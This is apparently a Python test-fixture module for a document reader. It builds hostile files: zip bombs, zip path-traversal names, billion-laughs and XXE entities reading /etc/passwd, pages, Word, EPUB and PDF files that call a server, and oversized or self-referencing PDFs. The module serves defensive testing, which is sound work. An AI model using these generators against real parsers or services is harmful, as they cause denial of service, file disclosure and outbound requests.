"""Files made to do harm: what each is, its content, and what it gives, as docs/readers.md lists them.

``refused`` are words of the report; ``text`` is what is read of a file whose harm does not reach beyond itself.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx


@dataclass(frozen=True)
class Hostile:
    name: str
    content: Callable[[str], bytes]
    """From the address of a server that must never be asked."""
    refused: str | None = None
    text: str | None = None


def zipped(members: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def overlapping(count: int = 400, size: int = 3 * 2**20) -> bytes:
    """Many names for one member, so that the archive unpacks to far more than it holds."""
    data = zipped({"a0000.txt": b"0" * size})
    at = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[at:end]
    entries = b"".join(entry.replace(b"a0000", b"a%04d" % number) for number in range(count))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entries), at, 0)
    return data[:at] + entries + tail


def word(document: str | None = None, **parts: bytes) -> bytes:
    """A Word file whose text, or another part, is replaced."""
    buffer = io.BytesIO()
    made = docx.Document()
    made.add_paragraph("正文")
    made.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        members: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    if document is not None:
        members["word/document.xml"] = document
    return zipped(members | {name.replace("__", "/") + ".xml": content for name, content in parts.items()})


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"


def word_text(text: str, doctype: str = "") -> str:
    return f"<?xml version='1.0'?>{doctype}<w:document {W}><w:body>{PARAGRAPH.format(text)}</w:body></w:document>"


def laughs(root: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "ha">{levels}]>'


def book(chapter: str, package_doctype: str = "") -> bytes:
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>',
            "a.opf": f"<?xml version='1.0'?>{package_doctype}<package><manifest>"
            '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest>'
            '<spine><itemref idref="a"/></spine></package>',
            "a.xhtml": chapter,
        }
    )


def page_that_calls(address: str) -> str:
    return f"""<!DOCTYPE html SYSTEM "{address}/dtd"><html><head><base href="{address}/">
<meta http-equiv="refresh" content="0;url={address}/refresh"><link rel="stylesheet" href="{address}/style">
<script src="{address}/script"></script></head><body><p>正文</p>
<img src="{address}/picture.png" srcset="{address}/2x 2x">
<iframe src="{address}/frame"></iframe><object data="{address}/object"></object><video src="{address}/video"></video>
<svg><image href="{address}/svg.png"/></svg></body></html>"""


def huge_png(side: int = 60_000) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 2**20)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf_of(content: bytes, resources: bytes = b"", extra: bytes = b"", kids: bytes = b"[3 0 R]") -> bytes:
    """A file of one page without a table of its objects, which readers then make themselves."""
    packed = zlib.compress(content)
    return (
        b"%%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Count 1 /Kids %s >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s"
        b" /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>\nendobj\n"
        b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n%s"
        b"trailer\n<< /Root 1 0 R >>\n%%%%EOF\n" % (kids, resources, len(packed), packed, extra)
    )


WORDS = b"BT /F 12 Tf 72 700 Td (News of the harbour) Tj ET\n"
IMAGE = b"/XObject << /I 5 0 R >>"


def image_object(side: int) -> bytes:
    data = zlib.compress(b"\0" * 1000)
    return (
        b"5 0 obj\n<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8"
        b" /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (side, side, len(data), data)
    )


def form_in_itself() -> bytes:
    form = b"/F1 Do\n"
    return (
        b"5 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /F1 5 0 R >> >>"
        b" /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(form), form)
    )


TOO_MUCH = "时间或内存太多"
# Libraries in C end the process where there is no more memory.
ENDED = f"{TOO_MUCH}|中途退出"

HOSTILE: dict[str, Hostile] = {
    "zip that unpacks to much": Hostile("a.zip", lambda _: zipped({"a.txt": b"0" * (201 * 2**20)}), "太大"),
    "zip of zips": Hostile(
        "a.zip", lambda _: zipped({"a.txt": zipped({"a.txt": zipped({"a.txt": "x"})})}), "还是压缩包"
    ),
    "zip of one member under many names": Hostile("a.zip", lambda _: overlapping(), "太大|不完整|不止一个"),
    "zip with names that lead out": Hostile(
        "a.zip", lambda _: zipped({"../../../tmp/jianbao-escaped.txt": "正文"}), text="正文"
    ),
    "page that names pictures outside its zip": Hostile(
        "a.zip",
        lambda _: zipped({"a/b.html": "<p>正文</p><img src=../../../../etc/passwd><img src=file:///etc/passwd>"}),
        text="正文",
    ),
    "page that calls a server": Hostile("a.html", lambda at: page_that_calls(at).encode(), text="正文"),
    "page nested without end": Hostile("a.html", lambda _: b"<div>" * 200_000 + "正文".encode(), refused="没有文字"),
    "markdown that calls a server": Hostile(
        "a.md", lambda at: f"正文\n\n![]({at}/a.png)\n\n<img src='{at}/b.png'>\n\n[a]: {at}/c".encode(), text="正文"
    ),
    "markdown of brackets": Hostile("a.md", lambda _: "正文\n\n".encode() + b"![" * 8_000, text="正文"),
    "word with an external entity": Hostile(
        "a.docx",
        lambda at: word(
            word_text("正文&x;", f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{at}/y">]>')
        ),
        text="正文",
    ),
    "word with entities of entities": Hostile(
        "a.docx", lambda _: word(word_text("正文&l9;", laughs("w"))), "打不开|太多"
    ),
    "word that unpacks to much": Hostile(
        "a.docx", lambda _: word(word_text("正文").replace("</w:body>", " " * (201 * 2**20) + "</w:body>")), "太大"
    ),
    "word with relations of its own to a server": Hostile("a.docx", lambda at: word_with_template(at), text="正文"),
    "epub with an external entity": Hostile(
        "a.epub", lambda at: book("<p>正文</p>", f'<!DOCTYPE package SYSTEM "{at}/dtd">'), text="正文"
    ),
    "epub with entities of entities": Hostile("a.epub", lambda _: book("<p>正文</p>", laughs("package")), text="正文"),
    "epub whose chapter calls a server": Hostile("a.epub", lambda at: book(page_that_calls(at)), text="正文"),
    "picture of gigantic size": Hostile(
        "a.zip", lambda _: zipped({"a.html": "<p>正文</p><img src=a.png>", "a.png": huge_png()}), text="正文"
    ),
    "pdf with an image of gigantic size": Hostile(
        "a.pdf",
        lambda _: pdf_of(WORDS + b"q 300 0 0 300 72 300 cm /I Do Q", IMAGE, image_object(60_000)),
        text="News of the harbour",
    ),
    "pdf of millions of objects": Hostile(
        "a.pdf", lambda _: pdf_of(WORDS + b"0 0 m 9 9 l S\n" * 1_000_000), text="News of the harbour"
    ),
    "pdf of millions of letters": Hostile("a.pdf", lambda _: pdf_of(b"BT /F 1 Tf (a) Tj ET\n" * 6_000_000), ENDED),
    "pdf whose form shows itself": Hostile(
        "a.pdf",
        lambda _: pdf_of(WORDS + b"/F1 Do", b"/XObject << /F1 5 0 R >>", form_in_itself()),
        text="News of the harbour",
    ),
    "pdf whose pages are their own parents": Hostile("a.pdf", lambda _: pdf_of(WORDS, kids=b"[2 0 R 2 0 R]"), "PDF"),
    "pdf nested without end": Hostile(
        "a.pdf", lambda _: pdf_of(WORDS, extra=b"5 0 obj\n" + b"[" * 500_000), refused="打不开"
    ),
    "pdf that calls a server": Hostile(
        "a.pdf",
        lambda at: pdf_of(
            WORDS,
            extra=b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (%s/open) >>"
            b" /AA << /WC << /S /SubmitForm /F (%s/form) >> >> >>\nendobj\n" % (at.encode(), at.encode()),
        ),
        text="News of the harbour",
    ),
}


def word_with_template(address: str) -> bytes:
    """Word itself would fetch the template."""
    buffer = io.BytesIO()
    made = docx.Document()
    made.add_paragraph("正文")
    made.part.relate_to(
        f"{address}/template.dotm",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        is_external=True,
    )
    made.save(buffer)
    return buffer.getvalue()
